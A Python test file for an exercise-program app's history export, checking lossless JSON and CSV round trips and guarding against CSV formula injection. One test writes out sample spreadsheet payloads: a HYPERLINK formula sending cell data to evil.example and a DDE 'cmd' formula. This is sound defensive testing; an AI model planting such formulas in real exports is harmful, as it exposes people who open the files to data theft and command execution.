"""The portable history survives JSON and CSV round trips unchanged, for any valid content.

Property-tested with hypothesis over random profiles, programs, performed sets (live and
deleted, with the instant of deletion in any time zone) and decisions:
``parse(render(bundle)) == bundle`` and re-rendering gives the very same bytes (which also
pins the order of dictionaries such as the check answers). Files written in the older
format version 1 (``golden/history-v1.*``, written by glutemed before deleted sets were
carried) still read.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from zoneinfo import ZoneInfo

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from glutemed.biomech.anthropometrics import MASS_KG
from glutemed.catalog.models import BandLevel, LoadSite, Mode, Role
from glutemed.clinic.attention import FlagKind
from glutemed.export.bundle import (
    FORMAT_VERSION,
    AcknowledgementRecord,
    DecisionRecord,
    HistoryBundle,
    PersonRecord,
    ProgramChangeRecord,
    ProgramRecord,
    ProgressionRecord,
    SetRecord,
)
from glutemed.export.to_csv import parse_csv_zip, render_csv_zip
from glutemed.export.to_json import parse_json, render_json
from glutemed.programming.models import (
    AffectedSide,
    Baseline,
    Condition,
    Goal,
    Level,
    Prescription,
    Profile,
    Program,
    Session,
    Side,
    Week,
)
from glutemed.progression.models import PerformedSet, RedFlag
from glutemed.progression.rules import ActionKind

# Text a person could type: any printable character plus the ones CSV must quote. An empty
# optional text is stored as "no value" in CSV, so optional texts here are non-empty.
chars = st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from('\n\r\t,";')
# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list), and
# a leading apostrophe is how the export marks a neutralised cell: texts that start with
# any of them must still come back exactly as typed.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "'", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|")
leads = st.sampled_from(FORMULA_LEADS)
some_text = st.text(chars, min_size=1, max_size=30) | st.builds(
    lambda lead, rest: lead + rest, leads, st.text(chars, max_size=20)
)
text = st.just("") | some_text
slug = st.from_regex(r"[a-z0-9]{1,8}(-[a-z0-9]{1,8}){0,2}", fullmatch=True)
variant_id = st.builds(lambda a, b: f"{a}.{b}", slug, slug)
dates = st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2100, 12, 31))
instants = st.datetimes(
    min_value=dt.datetime(2000, 1, 2),
    max_value=dt.datetime(2100, 12, 30),
    timezones=st.sampled_from(
        [dt.UTC, dt.timezone(dt.timedelta(hours=-5)), ZoneInfo("Europe/Lisbon")]
    ),
)
GOLDEN = Path(__file__).parent / "golden"


def kg(max_value: float = 500) -> st.SearchStrategy[float]:
    return st.floats(min_value=0, max_value=max_value, allow_nan=False)


def ranges(low: int, high: int) -> st.SearchStrategy[tuple[int, int]]:
    return st.tuples(st.integers(low, high), st.integers(low, high)).map(lambda p: (min(p), max(p)))


@st.composite
def profiles(draw: st.DrawFn) -> Profile:
    masses = st.floats(MASS_KG.ge or 30, MASS_KG.le or 300)  # the one body-mass bound
    body = draw(st.none() | st.tuples(masses, st.floats(1.0, 2.5)))
    return Profile(
        goal=draw(st.sampled_from(Goal)),
        days_per_week=draw(st.integers(1, 4)),
        weeks=draw(st.integers(4, 16)),
        equipment=draw(st.frozensets(slug, max_size=4)) | {"mini-band", "cuff-weight", "dumbbell"},
        level=draw(st.sampled_from(Level)),
        minutes_per_session=draw(st.integers(15, 180)),
        baseline=draw(
            st.none()
            | st.builds(
                Baseline,
                side_plank_hold_s=st.none() | st.floats(0, 600),
                side_lying_abduction_reps=st.none() | st.integers(0, 200),
                single_leg_squat_quality=st.none() | st.integers(0, 3),
            )
        ),
        mass_kg=body[0] if body else None,
        height_m=body[1] if body else None,
        sex=draw(st.none() | st.sampled_from(["female", "male"])),
        avoid_variants=draw(st.frozensets(variant_id, max_size=3)),
        avoid_weight_bearing=draw(st.booleans()),
        avoid_provocations=draw(st.frozensets(some_text, max_size=3)),
        # Since format 4: who the person is (checked against the catalogue only by the
        # planner, so any owned kit here is paired with the equipment it needs).
        **draw(people()),
    )


@st.composite
def people(draw: st.DrawFn) -> dict[str, object]:
    condition = draw(st.sampled_from(Condition))
    side = AffectedSide.NONE if condition is Condition.NONE else draw(
        st.sampled_from([AffectedSide.LEFT, AffectedSide.RIGHT, AffectedSide.BOTH]))
    cuffs = draw(st.frozensets(st.floats(0.25, 10), max_size=3))
    bells = draw(st.frozensets(st.floats(0.5, 60), max_size=3))
    bands = draw(st.frozensets(st.sampled_from(BandLevel), max_size=3))
    return {
        "age": draw(st.none() | st.integers(18, 100)),
        "condition": condition, "affected_side": side,
        "surgery_cleared": condition is Condition.AFTER_SURGERY or draw(st.booleans()),
        "fell_last_year": draw(st.none() | st.booleans()),
        "one_leg_10s": draw(st.none() | st.booleans()),
        "bands": bands, "cuff_kg": cuffs, "dumbbell_kg": bells,
    }


@st.composite
def prescriptions(draw: st.DrawFn) -> Prescription:
    mode = draw(st.sampled_from(Mode))
    band = draw(st.none() | st.sampled_from(BandLevel))
    return Prescription(
        variant_id=draw(variant_id),
        role=draw(st.sampled_from(Role)),
        mode=mode,
        side=draw(st.sampled_from(Side)),
        sets=draw(st.integers(1, 10)),
        reps=draw(ranges(1, 50)) if mode is Mode.ISOTONIC else None,
        hold_s=draw(ranges(1, 120)) if mode is Mode.ISOMETRIC else None,
        load_kg=draw(st.none() | kg()),
        band=band,
        band_at=draw(st.none() | st.sampled_from(LoadSite)),
        rest_s=draw(st.integers(0, 600)),
        rir=draw(ranges(0, 5)),
        optional=draw(st.booleans()),
        setup_note=draw(st.none() | some_text.filter(lambda t: len(t) <= 300)),
        rationale=draw(text),
    )


sessions = st.builds(
    Session,
    day=st.integers(1, 7),
    name=text,
    items=st.lists(prescriptions(), max_size=3),
)
weeks = st.builds(
    Week, number=st.integers(1, 16), focus=text, sessions=st.lists(sessions, max_size=2)
)
programs = st.builds(
    Program,
    profile=profiles(),
    weeks=st.lists(weeks, max_size=3),
    rationale=st.lists(text, max_size=3),
    weekdays=st.none() | st.lists(st.integers(1, 7), min_size=1, max_size=7, unique=True).map(
        lambda days: tuple(sorted(days))),
)


@st.composite
def performed_sets(draw: st.DrawFn) -> PerformedSet:
    isotonic = draw(st.booleans())
    load = draw(st.sampled_from(["none", "kg", "band"]))
    band = draw(st.sampled_from(BandLevel)) if load == "band" else None
    return PerformedSet(
        variant_id=draw(variant_id),
        side=draw(st.sampled_from(Side)),
        date=draw(dates),
        set_index=draw(st.integers(1, 20)),
        reps=draw(st.integers(0, 500)) if isotonic else None,
        hold_s=None if isotonic else draw(st.floats(0, 3600)),
        load_kg=draw(kg()) if load == "kg" else None,
        band=band,
        band_at=draw(st.none() | st.sampled_from(LoadSite)) if band else None,
        rir=draw(st.none() | st.integers(0, 10)),
        pain_during=draw(st.none() | st.integers(0, 10)),
        pain_next_morning=draw(st.none() | st.integers(0, 10)),
        checks=draw(st.dictionaries(some_text, st.booleans(), max_size=4)),
        felt_in=draw(st.none() | some_text),
        note=draw(st.none() | some_text),
        target_reps=draw(st.none() | ranges(1, 50)),
        target_hold_s=draw(st.none() | ranges(1, 120)),
        target_load_kg=draw(st.none() | kg()),
        red_flags=draw(st.frozensets(st.sampled_from(RedFlag), max_size=2)),
    )


# About half the sets are deleted ones, each with the instant it was deleted.
set_records = st.builds(SetRecord.of, performed_sets(), st.none() | instants)

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(-1000, 1000)
    | st.floats(allow_nan=False, allow_infinity=False)
    | text
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(some_text, inner, max_size=3),
    max_leaves=6,
)
decisions = st.builds(
    DecisionRecord,
    date=dates,
    variant_id=variant_id,
    slot=st.none() | variant_id,
    side=st.sampled_from(Side),
    action=st.sampled_from(list(ActionKind)),
    explanation=text,
    rule_ids=st.lists(some_text, max_size=3),
    facts=st.dictionaries(some_text, json_values, max_size=3),
    prescription_before=st.none() | prescriptions(),
    prescription_after=st.none() | prescriptions(),
)


acknowledgements = st.builds(
    AcknowledgementRecord,
    kind=st.sampled_from(FlagKind),
    key=some_text,
    by=st.text(chars, min_size=1, max_size=20),
    at=instants,
    note=some_text,
)


program_changes = st.builds(
    ProgramChangeRecord,
    at=instants,
    by=st.text(chars, min_size=1, max_size=20),
    role=st.sampled_from(["self", "client", "clinician"]),
    what=some_text,
    edit=st.dictionaries(some_text, json_values, max_size=3),
    program=st.none() | st.sampled_from(["program-1", "program-2"]),
)


@st.composite
def bundles(draw: st.DrawFn) -> HistoryBundle:
    program_list = draw(st.lists(programs, max_size=2))
    sets = draw(st.lists(set_records, max_size=6))
    return HistoryBundle(
        person=PersonRecord(
            name=draw(some_text),
            profile=draw(profiles()),
            unit=draw(st.sampled_from(["kg", "lb"])),
            timezone=draw(some_text),
        ),
        programs=[
            ProgramRecord(
                key=f"program-{i}",
                start_date=draw(st.none() | dates),
                active=draw(st.booleans()),
                program=p,
                completed=draw(st.dictionaries(st.integers(1, 64), dates, max_size=3)),
            )
            for i, p in enumerate(program_list, start=1)
        ],
        performed_sets=sets,
        decisions=[
            d.model_copy(update={"performed_set": draw(st.none() | st.integers(0, len(sets) - 1))})
            if sets
            else d
            for d in draw(st.lists(decisions, max_size=2))
        ],
        attention_acks=draw(st.lists(acknowledgements, max_size=2)),
        program_changes=draw(st.lists(program_changes, max_size=2)),
        progression=draw(
            st.lists(
                st.builds(
                    ProgressionRecord,
                    slot=variant_id,
                    side=st.sampled_from(Side),
                    prescription=prescriptions(),
                    counters=st.dictionaries(some_text, json_values, max_size=2),
                ),
                max_size=2,
            )
        ),
    )


ROUND_TRIP = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@ROUND_TRIP
@given(bundles())
def test_json_round_trip_is_lossless(bundle: HistoryBundle) -> None:
    data = render_json(bundle)
    back = parse_json(data)
    assert back == bundle
    assert _deletions(back) == _deletions(bundle)
    assert render_json(back) == data


@ROUND_TRIP
@given(bundles())
def test_csv_zip_round_trip_is_lossless(bundle: HistoryBundle) -> None:
    data = render_csv_zip(bundle)
    back = parse_csv_zip(data)
    assert back == bundle
    assert _deletions(back) == _deletions(bundle)
    assert render_csv_zip(back) == data


@ROUND_TRIP
@given(bundles())
def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(bundle: HistoryBundle) -> None:
    """CSV formula injection (issue 14): a note such as ``=HYPERLINK(...)`` or
    ``=cmd|...`` must not reach a cell as a formula. Every cell that starts with ``=``,
    ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's list) is written with a leading
    apostrophe, unless it is a plain number; the import takes the apostrophe off again
    (the round trip above stays lossless)."""
    import csv
    import io
    import re
    import zipfile

    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    with zipfile.ZipFile(io.BytesIO(render_csv_zip(bundle))) as archive:
        for name in archive.namelist():
            rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
            for row in rows:
                for cell in row:
                    runs = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                    assert not runs or number.fullmatch(cell), (name, cell)


def test_a_formula_in_a_note_is_neutralised_and_comes_back_as_typed(
    bundle: HistoryBundle,
) -> None:
    note = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    first = bundle.performed_sets[0]
    noted = first.model_copy(update={"note": note, "felt_in": "@SUM(1+1)*cmd|' /C calc'!A0"})
    changed = bundle.model_copy(update={"performed_sets": [noted, *bundle.performed_sets[1:]]})
    data = render_csv_zip(changed)
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sets_csv = archive.read("sets.csv").decode("utf-8")
    assert "'=HYPERLINK(" in sets_csv and ",=HYPERLINK" not in sets_csv
    assert "'@SUM(1+1)" in sets_csv
    back = parse_csv_zip(data)
    assert back.performed_sets[0].note == note
    assert back.performed_sets[0].felt_in == "@SUM(1+1)*cmd|' /C calc'!A0"


def _deletions(bundle: HistoryBundle) -> list[dt.datetime | None]:
    """Which sets are deleted and when, position by position (dropping one shows here)."""
    return [s.deleted_at for s in bundle.performed_sets]


@ROUND_TRIP
@given(bundles(), st.lists(instants, min_size=1, max_size=3))
def test_deleted_sets_travel_in_both_formats_as_deleted(
    bundle: HistoryBundle, when: list[dt.datetime]
) -> None:
    deleted = [
        SetRecord.of(
            PerformedSet(variant_id="side-plank.short", side=Side.LEFT, date=t.date(), hold_s=20),
            t,
        )
        for t in when
    ]
    with_deleted = bundle.model_copy(update={"performed_sets": [*bundle.performed_sets, *deleted]})
    for back in (
        parse_json(render_json(with_deleted)),
        parse_csv_zip(render_csv_zip(with_deleted)),
    ):
        tail = back.performed_sets[-len(when) :]
        assert [s.deleted for s in tail] == [True] * len(when)
        assert [s.deleted_at for s in tail] == [t.astimezone(dt.UTC) for t in when]
        assert back.performed_sets == with_deleted.performed_sets


@ROUND_TRIP
@given(bundles())
def test_json_and_csv_carry_the_same_history(bundle: HistoryBundle) -> None:
    assert parse_csv_zip(render_csv_zip(bundle)) == parse_json(render_json(bundle))


def test_sample_history_round_trips_through_both_formats(bundle: HistoryBundle) -> None:
    assert parse_json(render_json(bundle)) == bundle
    assert parse_csv_zip(render_csv_zip(bundle)) == bundle
    assert len(parse_csv_zip(render_csv_zip(bundle)).performed_sets) == 84


def test_a_deleted_set_is_written_with_its_instant_in_utc(bundle: HistoryBundle) -> None:
    lisbon_summer = dt.datetime(2026, 7, 1, 19, 30, tzinfo=ZoneInfo("Europe/Lisbon"))
    first = SetRecord.of(bundle.performed_sets[0], lisbon_summer)
    deleted = bundle.model_copy(update={"performed_sets": [first, *bundle.performed_sets[1:]]})
    assert '"deleted_at": "2026-07-01T18:30:00Z"' in render_json(deleted).decode()
    assert render_json(bundle).decode().count('"deleted_at": null') == 84
    sets_csv = parse_csv_zip(render_csv_zip(deleted)).performed_sets
    assert sets_csv[0].deleted_at == dt.datetime(2026, 7, 1, 18, 30, tzinfo=dt.UTC)
    assert not any(s.deleted for s in sets_csv[1:])


def test_a_version_1_json_file_still_reads_with_every_set_live() -> None:
    data = (GOLDEN / "history-v1.json").read_bytes()
    assert b'"format_version": 1' in data and b"deleted_at" not in data
    bundle = parse_json(data)
    assert bundle.format_version == FORMAT_VERSION  # upgraded as it is read
    assert len(bundle.performed_sets) == 6
    assert not any(s.deleted for s in bundle.performed_sets)
    assert bundle.decisions[0].performed_set == 4
    assert parse_json(render_json(bundle)) == bundle


def test_a_version_1_csv_zip_still_reads_and_matches_its_json_twin() -> None:
    data = (GOLDEN / "history-v1.zip").read_bytes()
    bundle = parse_csv_zip(data)
    assert bundle.format_version == FORMAT_VERSION
    assert not any(s.deleted for s in bundle.performed_sets)
    assert bundle == parse_json((GOLDEN / "history-v1.json").read_bytes())
